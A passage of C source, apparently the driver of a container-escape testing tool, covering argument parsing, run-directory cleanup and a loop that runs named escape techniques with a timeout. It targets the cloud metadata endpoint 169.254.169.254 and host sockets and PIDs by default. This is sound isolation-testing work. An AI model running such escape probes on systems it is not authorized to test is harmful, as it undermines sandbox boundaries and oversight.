    write_all(STDOUT_FILENO, line, (size_t)n < sizeof line ? (size_t)n : sizeof line - 1);
}

static void make_run_dir(void)
{
    snprintf(run_dir, sizeof run_dir, "%s/alcub3-escape-XXXXXX", options.workspace ? options.workspace : "/tmp");
    if (!mkdtemp(run_dir))
        run_dir[0] = '\0';
}

/* Attempts clean up after themselves; this catches what one killed midway left: a file,
 * a device node, a scratch directory with a mount on it. It never descends into a
 * directory, so it cannot reach into a filesystem mounted there. */
static void remove_run_dir(void)
{
    if (!run_dir[0])
        return;
    DIR *dir = opendir(run_dir);
    if (dir) {
        struct dirent *entry;
        while ((entry = readdir(dir))) {
            if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
                continue;
            char path[PATH_MAX + 256];
            snprintf(path, sizeof path, "%s/%s", run_dir, entry->d_name);
            for (int i = 0; i < 8 && umount2(path, MNT_DETACH | UMOUNT_NOFOLLOW) == 0; i++) {
            }
            if (rmdir(path) < 0 && errno == ENOTDIR)
                unlink(path);
        }
        closedir(dir);
    }
    rmdir(run_dir);
}

static int usage(const char *problem)
{
    if (problem)
        fprintf(stderr, "alcub3-escape: %s\n", problem);
    fprintf(stderr,
            "usage: alcub3-escape [--host-pid PID] [--workspace DIR] [--metadata ADDR:PORT]\n"
            "                     [--socket PATH]... TECHNIQUE...|all|list\n");
    return 2;
}

/* ADDR:PORT, or [ADDR]:PORT for IPv6. */
static bool parse_endpoint(const char *text)
{
    char host[INET6_ADDRSTRLEN + 2];
    const char *colon = strrchr(text, ':');
    if (!colon || (size_t)(colon - text) >= sizeof host)
        return false;
    memcpy(host, text, (size_t)(colon - text));
    host[colon - text] = '\0';
    char *end;
    long port = strtol(colon + 1, &end, 10);
    if (*end || port < 1 || port > 65535)
        return false;

    size_t len = strlen(host);
    if (len >= 2 && host[0] == '[' && host[len - 1] == ']') {
        struct sockaddr_in6 *a = (struct sockaddr_in6 *)&options.metadata;
        host[len - 1] = '\0';
        a->sin6_family = AF_INET6;
        a->sin6_port = htons((uint16_t)port);
        options.metadata_len = sizeof *a;
        return inet_pton(AF_INET6, host + 1, &a->sin6_addr) == 1;
    }
    struct sockaddr_in *a = (struct sockaddr_in *)&options.metadata;
    a->sin_family = AF_INET;
    a->sin_port = htons((uint16_t)port);
    options.metadata_len = sizeof *a;
    return inet_pton(AF_INET, host, &a->sin_addr) == 1;
}

int main(int argc, char **argv)
{
    /* What memfd-exec runs from its memfd copy of this binary. */
    if (argc == 2 && strcmp(argv[1], "--exit0") == 0)
        _exit(0);

    options.metadata_text = "169.254.169.254:80";
    parse_endpoint(options.metadata_text);

    int selected[TECHNIQUE_COUNT * 4];
    int count = 0;
    bool list = false;
    for (int i = 1; i < argc; i++) {
        const char *arg = argv[i];
        bool takes_value = strcmp(arg, "--host-pid") == 0 || strcmp(arg, "--workspace") == 0 ||
                           strcmp(arg, "--metadata") == 0 || strcmp(arg, "--socket") == 0;
        if (takes_value && i + 1 >= argc) {
            char problem[128];
            snprintf(problem, sizeof problem, "%s needs a value", arg);
            return usage(problem);
        }
        if (strcmp(arg, "--host-pid") == 0) {
            char *end;
            long pid = strtol(argv[++i], &end, 10);
            if (*end || pid < 1 || pid > INT32_MAX)
                return usage("--host-pid needs a positive pid");
            options.host_pid = (pid_t)pid;
        } else if (strcmp(arg, "--workspace") == 0) {
            options.workspace = argv[++i];
            if (strlen(options.workspace) + sizeof "/alcub3-escape-XXXXXX" > sizeof run_dir)
                return usage("--workspace: path too long");
        } else if (strcmp(arg, "--metadata") == 0) {
            options.metadata_text = argv[++i];
            if (!parse_endpoint(options.metadata_text))
                return usage("--metadata needs ADDR:PORT (IPv6 as [ADDR]:PORT)");
        } else if (strcmp(arg, "--socket") == 0) {
            if (options.socket_count == (int)(sizeof options.sockets / sizeof *options.sockets))
                return usage("too many --socket paths (at most 16)");
            options.sockets[options.socket_count++] = argv[++i];
        } else if (strcmp(arg, "-h") == 0 || strcmp(arg, "--help") == 0) {
            usage(NULL);
            return 0;
        } else if (strcmp(arg, "list") == 0) {
            list = true;
        } else if (strcmp(arg, "all") == 0) {
            for (int t = 0; t < TECHNIQUE_COUNT && count < (int)(sizeof selected / sizeof *selected); t++)
                selected[count++] = t;
        } else if (arg[0] == '-') {
            char problem[256];
            snprintf(problem, sizeof problem, "unknown option '%s'", arg);
            return usage(problem);
        } else {
            int t = 0;
            while (t < TECHNIQUE_COUNT && strcmp(techniques[t].id, arg) != 0)
                t++;
            if (t == TECHNIQUE_COUNT) {
                fprintf(stderr, "alcub3-escape: unknown technique '%s' (`alcub3-escape list` prints the ids)\n", arg);
                return 2;
            }
            if (count == (int)(sizeof selected / sizeof *selected))
                return usage("too many techniques");
            selected[count++] = t;
        }
    }
    if (list) {
        for (int t = 0; t < TECHNIQUE_COUNT; t++)
            printf("%s\n", techniques[t].id);
        return 0;
    }
    if (count == 0)
        return usage("no technique given");

    signal(SIGPIPE, SIG_IGN);
    make_run_dir();
    bool any_achieved = false;
    for (int i = 0; i < count; i++) {
        struct outcome o;
        run_isolated(techniques[selected[i]].attempt, &o, TECHNIQUE_TIMEOUT_MS);
        print_outcome(techniques[selected[i]].id, &o);
        any_achieved |= o.achieved;
    }
    remove_run_dir();
    return any_achieved ? 1 : 0;
}
